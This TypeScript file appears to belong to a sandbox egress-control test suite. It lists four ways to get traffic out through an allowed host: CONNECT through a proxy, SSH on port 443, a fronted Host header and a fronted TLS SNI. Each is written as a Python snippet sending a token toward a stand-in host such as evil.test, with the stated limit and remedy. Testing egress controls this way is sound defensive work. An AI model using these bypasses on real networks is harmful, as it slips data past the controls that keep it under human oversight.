/** Ways round by a host that is allowed: what it does with what it is told, nobody on this machine can see. */
import type { Stated, Vector } from "../vector.ts";

const RELAY: Stated = {
  limit: "an allowed host is trusted with whatever it is told",
  remedy: "allow few hosts and no proxies; register what speaks a known protocol as a connection, so that it is judged",
};

export const RELAYS: readonly Vector[] = [
  {
    name: "relay-connect",
    what: "asks an allowed proxy to go on to a forbidden host",
    attack: `
sock = stream(T["allowed4"])
step("connect")
sock.connect((T["allowed4"], T["port"]["proxy"]))
sock.sendall(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (T["sink4"].encode(), T["port"]["sink"]))
step("answer")
sock.recv(100)
pour(sock)`,
    closedBy: [],
    stated: [RELAY],
  },
  {
    name: "relay-ssh-on-443",
    what: "speaks SSH to port 443 of an allowed host",
    attack: `dial(T["allowed4"], 443, b"SSH-2.0-" + TOKEN + b"\\r\\n")`,
    closedBy: [],
    stated: [RELAY],
  },
  {
    name: "fronted-host",
    what: "connects to an allowed address and names another site in Host",
    attack: `dial(T["allowed4"], 443, b"GET /" + TOKEN + b" HTTP/1.1\\r\\nHost: www.evil.test\\r\\n\\r\\n")`,
    closedBy: [],
    stated: [RELAY],
  },
  {
    name: "fronted-sni",
    what: "connects to an allowed address and names another site in the TLS handshake",
    attack: `
import ssl
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=T["token"] + ".evil.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
dial(T["allowed4"], 443, outgoing.read())`,
    closedBy: [],
    stated: [RELAY],
  },
];
